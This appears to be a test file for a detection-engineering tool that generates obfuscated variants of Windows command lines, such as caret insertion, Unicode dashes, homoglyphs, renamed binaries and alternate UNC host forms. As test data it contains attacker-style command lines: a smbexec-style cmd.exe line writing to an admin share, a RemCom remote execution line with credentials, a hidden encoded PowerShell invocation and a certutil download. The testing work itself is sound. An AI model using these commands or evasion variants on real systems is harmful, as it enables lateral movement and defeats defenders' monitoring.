/** Each generator on the command lines it applies to, and on those it must leave alone. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { GENERATORS, generateVariants } from "./index";
import type { Subject } from "./types";

const SMB = "C:\\Windows\\system32\\cmd.exe /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > C:\\Windows\\BTOBTOxy.bat & C:\\Windows\\system32\\cmd.exe /Q /c C:\\Windows\\BTOBTOxy.bat";
const REMCOM = "RemCom.exe \\\\10.0.0.5 /user:CORP\\admin /pwd:Secret1 cmd.exe";
const PS = "powershell.exe -nop -w hidden -enc SQBFAFgA";

const byName = (name: string) => GENERATORS.find((g) => g.name === name)!;
const run = (name: string, s: Subject | string) => byName(name).variants(typeof s === "string" ? { process: s } : s).map((v) => v.process);

const CASES: { generator: string; input: Subject | string; want: string[] }[] = [
  { generator: "case", input: "Cmd.exe /Q /c echo hi", want: ["CMD.EXE /Q /C ECHO hi", "cMD.EXE /q /C ECHO hi"] },
  { generator: "case", input: "cmd.exe /q /c echo hi", want: ["CMD.EXE /Q /C ECHO hi"] },
  { generator: "case", input: REMCOM, want: ["REMCOM.EXE \\\\10.0.0.5 /USER:CORP\\admin /PWD:Secret1 cmd.exe", "rEMcOM.EXE \\\\10.0.0.5 /USER:CORP\\admin /PWD:Secret1 cmd.exe"] },
  { generator: "caret", input: "cmd.exe /c echo hi & whoami", want: ["cmd.exe /c ec^ho hi & who^ami"] },
  { generator: "caret", input: REMCOM, want: [] },
  { generator: "caret", input: "cmd.exe /c \"echo\" x", want: [] },
  { generator: "empty-quotes", input: "cmd.exe /c whoami.exe & C:\\Windows\\xy.bat", want: ["cmd.exe /c w\"\"hoami.exe & C:\\Windows\\x\"\"y.bat"] },
  { generator: "empty-quotes", input: "cmd.exe /c echo hi", want: [] },
  { generator: "switch-prefix", input: PS, want: ["powershell.exe /nop /w hidden /enc SQBFAFgA"] },
  { generator: "switch-prefix", input: "certutil.exe /urlcache /f http://x/a a.exe", want: ["certutil.exe -urlcache -f http://x/a a.exe"] },
  { generator: "switch-prefix", input: "cmd.exe /c echo", want: [] },
  { generator: "whitespace", input: "net.exe use \\\\h\\c$ \"a b\"", want: ["net.exe   use   \\\\h\\c$   \"a b\"", "net.exe\tuse\t\\\\h\\c$\t\"a b\""] },
  { generator: "whitespace", input: "whoami.exe", want: [] },
  { generator: "env-var", input: "cmd.exe /c C:\\Windows\\system32\\cmd.exe /c C:\\Windows\\x.bat", want: ["cmd.exe /c %COMSPEC% /c C:\\Windows\\x.bat", "cmd.exe /c %SystemRoot%\\system32\\cmd.exe /c %SystemRoot%\\x.bat", "cmd.exe /c %windir%\\system32\\cmd.exe /c %windir%\\x.bat"] },
  { generator: "env-var", input: "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\x.dll,Run", want: [] },
  { generator: "path-form", input: "C:\\Windows\\System32\\cmd.exe /c x", want: ["cmd.exe /c x", "C:\\Windows\\System32\\.\\cmd.exe /c x"] },
  { generator: "path-form", input: "cmd.exe /c x", want: ["C:\\Windows\\System32\\cmd.exe /c x"] },
  { generator: "path-form", input: "\"C:\\Program Files\\7-Zip\\7z.exe\" a x.7z", want: ["C:\\PROGRA~1\\7-Zip\\7z.exe a x.7z"] },
  { generator: "path-form", input: "evil.exe -x", want: [] },
  { generator: "renamed", input: { process: "C:\\Windows\\system32\\cmd.exe /c x", processName: "cmd.exe", originalFileName: "Cmd.Exe" }, want: ["C:\\Users\\Public\\svchelper.exe /c x"] },
  { generator: "quotes", input: "C:\\Windows\\system32\\cmd.exe /c echo a > b", want: ["\"C:\\Windows\\system32\\cmd.exe\" /c echo a > b", "C:\\Windows\\system32\\cmd.exe /c \"echo a > b\""] },
  { generator: "quotes", input: "\"C:\\x\\a.exe\" run", want: ["C:\\x\\a.exe run"] },
  { generator: "quotes", input: "cmd.exe /c whoami", want: ["\"cmd.exe\" /c whoami"] },
  { generator: "unicode-dash", input: PS, want: ["\u2013", "\u2014", "\u2015"].map((d) => `powershell.exe ${d}nop ${d}w hidden ${d}enc SQBFAFgA`) },
  { generator: "unicode-dash", input: "certutil.exe -urlcache", want: [] },
  { generator: "lookalike", input: "C:\\Windows\\system32\\cmd.exe /c x", want: ["C:\\Windows\\system32\\\u0441md.exe /c x"] },
  { generator: "reorder", input: REMCOM, want: ["RemCom.exe \\\\10.0.0.5 /pwd:Secret1 /user:CORP\\admin cmd.exe"] },
  { generator: "reorder", input: "cmd.exe /Q /D /c echo", want: ["cmd.exe /D /Q /c echo"] },
  { generator: "reorder", input: PS, want: [] },
  { generator: "unc-host", input: { process: "cmd.exe /c dir \\\\127.0.0.1\\C$", host: "ws01.corp.local" }, want: ["localhost", "0--1.ipv6-literal.net", "?\\UNC\\127.0.0.1", "%COMPUTERNAME%", "ws01"].map((h) => `cmd.exe /c dir \\\\${h}\\C$`) },
  { generator: "unc-host", input: "net.exe use \\\\127.0.0.1\\C$", want: ["localhost", "0--1.ipv6-literal.net", "?\\UNC\\127.0.0.1"].map((h) => `net.exe use \\\\${h}\\C$`) },
  { generator: "unc-host", input: REMCOM, want: [] },
];

for (const c of CASES) {
  test(`${c.generator}: ${typeof c.input === "string" ? c.input : c.input.process}`, () => {
    assert.deepEqual(run(c.generator, c.input), c.want);
  });
}

test("a renamed binary keeps its original file name (the event's, else the name it ran under)", () => {
  const given = byName("renamed").variants({ process: "C:\\Windows\\system32\\cmd.exe /c x", processName: "cmd.exe", originalFileName: "Cmd.Exe" })[0]!;
  assert.deepEqual(given.fields, { original_file_name: "Cmd.Exe" });
  assert.equal(given.program, "C:\\Users\\Public\\svchelper.exe");
  assert.deepEqual(byName("lookalike").variants({ process: "cmd.exe /c x" })[0]!.fields, { original_file_name: "cmd.exe" });
});

test("every generator has a name fit for data-variant and a one-line description; names are unique", () => {
  assert.equal(new Set(GENERATORS.map((g) => g.name)).size, GENERATORS.length);
  for (const g of GENERATORS) {
    assert.match(g.name, /^[a-z][a-z-]*$/);
    assert.ok(g.description.length > 20 && !g.description.includes("\n"), g.name);
  }
});

test("generateVariants: no duplicate, none equal to the original, no line break", () => {
  const all = generateVariants({ process: SMB });
  assert.ok(all.length >= 10, `${all.length} variants`);
  const keys = all.map((v) => `${v.process}|${v.program ?? ""}`);
  assert.equal(new Set(keys).size, keys.length);
  assert.ok(!all.some((v) => v.process === SMB && v.program === undefined));
  assert.ok(!all.some((v) => /[\r\n]/.test(v.process)));
});
